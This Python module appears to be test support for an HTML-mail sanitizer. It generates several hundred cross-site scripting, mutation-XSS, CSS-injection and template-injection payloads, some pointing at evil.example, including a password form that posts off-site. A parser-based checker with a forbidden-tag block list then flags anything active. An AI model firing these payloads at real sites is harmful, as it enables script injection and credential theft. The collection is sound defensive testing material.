"""Some seven hundred posts that mean harm, made of the ways known to get a page to act, and the
check that none does.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from itertools import product

RUN = "alert(1)"

_TAGS = [
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "iframe",
    "details",
    "marquee",
    "input autofocus",
    "x-y tabindex=1",
    "select autofocus",
    "object",
    "embed",
    "math",
    "form",
    "keygen",
    "p",
    "a href=x",
    "table",
    "isindex",
    "style",
]
_EVENTS = [
    "onload",
    "onerror",
    "onfocus",
    "ontoggle",
    "onstart",
    "onmouseover",
    "onanimationstart",
    "onbegin",
    "onpointerrawupdate",
]
_SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"\x01javascript:{RUN}",
    f"&#1;javascript:{RUN}",
    f"vbscript:{RUN}",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    f"livescript:{RUN}",
    f"mocha:{RUN}",
    f"feed:javascript:{RUN}",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    f"view-source:javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"\u2028javascript:{RUN}",
    f"\ufeffjavascript:{RUN}",
    f"https://user:password@evil.example/{RUN}",
    "ftp://evil.example/",
    "about:blank",
]
_LINKS = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<img src="{}">',
    '<area href="{}">',
    '<form action="{}"><button>x</button></form>',
    '<iframe src="{}"></iframe>',
    '<a xlink:href="{}">x</a>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<button formaction="{}">x</button>',
    '<video poster="{}"></video>',
    '<object data="{}"></object>',
    '<base href="{}">',
]
_STYLES = [
    "background:url(javascript:alert(1))",
    "width:expression(alert(1))",
    "behavior:url(x.htc)",
    "-moz-binding:url(x.xml#x)",
    "position:fixed;top:0;left:0;width:100%;height:100%",
    "@import 'https://evil.example/x.css'",
    "background-image:url(https://evil.example/track)",
    "list-style:url(https://evil.example/t)",
    "content:'\\3c script>'",
    "\\65xpression(alert(1))",
    "/**/width/**/:/**/expression(alert(1))",
    "font-family:'x;}body{display:none'",
    "animation-name:x;",
    "color:red\\;}*{display:none",
]
_MUTATIONS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<math><annotation-xml encoding='text/html'><p><style><img src=x onerror=alert(1)>",
    "<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>",
    "<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></foreignObject>",
    '<table><td><svg><title><a id="</title><img src=x onerror=alert(1)>">',
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    '<template><p title="</template><img src=x onerror=alert(1)>">',
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>",
    '<img alt="`><script>alert(1)</script>"src=x>',
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    '<p id="</p><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y '<img onerror=alert(1) src=x>'>]>&y;",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![if !mso]><img src=x onerror=alert(1)><![endif]>",
    '<comment><img src="</comment><img src=x onerror=alert(1)>">',
    "</td></tr></table></div></body></html><script>alert(1)</script>",
    "--></style></title></textarea><svg onload=alert(1)>",
    "<body><head><style>body{display:none}</style>",
    "<!-- /content --><h1>Not ours</h1><!-- content -->",
    "<b><a href=https://x.example/><i></b><a href='javascript:alert(1)'></i>x",
    "<table><a href=javascript:alert(1)>x</table>",
    "<p/onclick=alert(1)/>x",
    "<img/src='x'/onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x\x00 onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<sCrIpT>alert(1)</ScRiPt>",
    "<script/xyz src=//evil.example></script>",
    "<script>alert(1)//",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&#x3C;script>alert(1)</script>",
    "&#60script&#62alert(1)",
]
_ELEMENTS = [
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<base target=_blank>",
    "<form action=https://evil.example/><input name=password type=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<embed src=https://evil.example/x.swf allowscriptaccess=always>",
    "<object type=text/html data=https://evil.example/></object>",
    "<applet code=x></applet>",
    "<portal src=https://evil.example/></portal>",
    "<dialog open>x</dialog>",
    "<img srcset='https://evil.example/a 1x, javascript:alert(1) 2x' src=a.jpg>",
    "<picture><source srcset=https://evil.example/x onerror=alert(1)><img src=a.jpg></picture>",
    "<video src=x><source onerror=alert(1)></video>",
    "<img src=a.jpg usemap=#m><map name=m><area href=javascript:alert(1) shape=rect coords=0,0,999,999></map>",
    "<img lowsrc=javascript:alert(1) src=a.jpg>",
    "<img dynsrc=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x",
    "<td background=javascript:alert(1)>x",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=https://evil.example/></layer>",
    "<a href=https://ok.example/ ping=https://evil.example/>x</a>",
    "<a href=https://ok.example/ target=_blank rel=opener>x</a>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><script href=https://evil.example/></script></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{display:none}</style>",
    "<style>@media print{a::after{content:url(https://evil.example/)}}</style>",
    "<xml id=x><b>&lt;img src=x onerror=alert(1)></b></xml><span datasrc=#x dataformatas=html>",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% raw %}",
    "{# x",
    "{{ subscriber.unsubscribe_url }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "\ue000email\ue001",
    "&#xE000;email&#xE001;",
    "&#57344;unsubscribe_url&#57345;",
    "<a href='https://evil.example/?&#xE000;email&#xE001;'>x</a>",
    "<img src='https://evil.example/&#xE000;preferences_url&#xE001;'>",
    "<p title='&#xE000;name&#xE001;'>x</p>",
    "\ue000nothing\ue001",
    "<div style='position:absolute'>x</div>",
    "\u202ecod.exe\u202c",
    "\u2066x\u2069",
    "a\x00b",
    "\ud83d",
    "\x1b[31mred",
    "x\u2028y\u2029z",
    "Z\u0351\u036b\u0343" * 30,
    "<p dir=rtl style='direction:rtl'>x</p>",
    "<p hidden>x</p>",
    "<p contenteditable onfocus=alert(1) autofocus>x</p>",
    "<p is=x-y>x</p>",
    "<slot name=x></slot>",
    "<custom-element></custom-element>",
]


def payloads() -> list[str]:
    """All of them, each once."""
    markup = [f"<{tag} {event}={RUN} src=x>" for tag, event in product(_TAGS, _EVENTS)]
    markup += [link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES)]
    markup += [f'<div style="{style}">x</div>' for style in _STYLES] + [
        f"<style>{style}</style>" for style in _STYLES
    ]
    markup += _MUTATIONS + _ELEMENTS
    markup += [f"<p>{payload}" for payload in _MUTATIONS]
    return list(dict.fromkeys(markup))


FORBIDDEN = frozenset(
    [
        "script",
        "iframe",
        "form",
        "input",
        "svg",
        "math",
        "object",
        "embed",
        "base",
        "link",
        "button",
        "template",
        "noscript",
        "video",
        "audio",
        "details",
        "frame",
        "frameset",
        "applet",
        "marquee",
        "isindex",
        "textarea",
        "select",
        "picture",
        "source",
        "area",
        "map",
        "layer",
        "portal",
        "dialog",
        "keygen",
        "xml",
        "slot",
        "bgsound",
    ]
)
_HARM = re.compile(r"url\(|expression|javascript|position|behavior|@import|binding|\\", re.I)
_OURS = re.compile(r" ?/?content |\[if mso\]>")


class _Reader(HTMLParser):
    """Notes what could act in a finished mail."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.metas = self.styles = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN or ":" in tag or "-" in tag:
            self.found.append(f"<{tag}>")
        self.metas += tag == "meta"
        self.styles += tag == "style"
        for name, value in attrs:
            self._attribute(tag, name, value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        acts = name.startswith("on") or name in {
            "srcdoc",
            "srcset",
            "formaction",
            "background",
            "ping",
            "poster",
            "xlink:href",
            "http-equiv",
            "target",
            "is",
        }
        leads = name in ("href", "src") and not re.match(r"https?://|mailto:|#entry-\d+$", value)
        if (
            acts
            or leads
            or (name == "style" and _HARM.search(value))
            or "<" in value
            or ">" in value
        ):
            self.found.append(f"<{tag} {name}={value[:80]!r}>")

    def handle_comment(self, data: str) -> None:
        if not _OURS.match(data):
            self.found.append(f"<!--{data[:60]}-->")


def active(html: str) -> list[str]:
    """Return what could act in a mail or page of ours: none of it may be there."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    if (reader.metas, reader.styles) != (5, 1):
        reader.found.append(f"{reader.metas} meta and {reader.styles} style elements")
    if "\ue000" in html or "\ue001" in html:
        reader.found.append("an open slot")
    return reader.found
